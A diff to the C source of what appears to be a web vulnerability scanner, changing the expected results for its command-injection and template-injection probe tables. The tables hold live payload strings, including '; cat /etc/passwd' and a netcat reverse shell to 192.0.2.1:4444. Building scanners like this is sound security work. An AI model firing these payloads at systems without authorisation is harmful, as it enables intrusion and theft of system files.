@@ -173,8 +173,8 @@ void check_command(struct scan_trial *trial)
 		{ "`expr 7340021 + 912345678`", "919685699", false },
 		{ "; expr 7340021 + 912345678", "919685699", false },
 		{ "| expr 7340021 + 912345678", "919685699", false },
-		{ "; cat /etc/passwd", "root:x:0:0:", true },
-		{ "$(cat /etc/passwd)", "root:x:0:0:", true },
+		{ "; cat /etc/passwd", NULL, true },
+		{ "$(cat /etc/passwd)", NULL, true },
 		{ "| nc 192.0.2.1 4444 -e /bin/sh", NULL, true },
 	};
 
@@ -200,7 +200,7 @@ void check_template(struct scan_trial *trial)
 		{ "{{91121*98713}}", "8994827273", true },
 		{ "${91121*98713}", "8994827273", true },
 		{ "#{91121*98713}", "8994827273", false },
-		{ "<%= 91121*98713 %>", "8994827273", true },
+		{ "<%= 91121*98713 %>", "8994827273", false },
 	};
 
 	attacks(trial, rows, sizeof(rows) / sizeof(*rows), "an expression of a template");
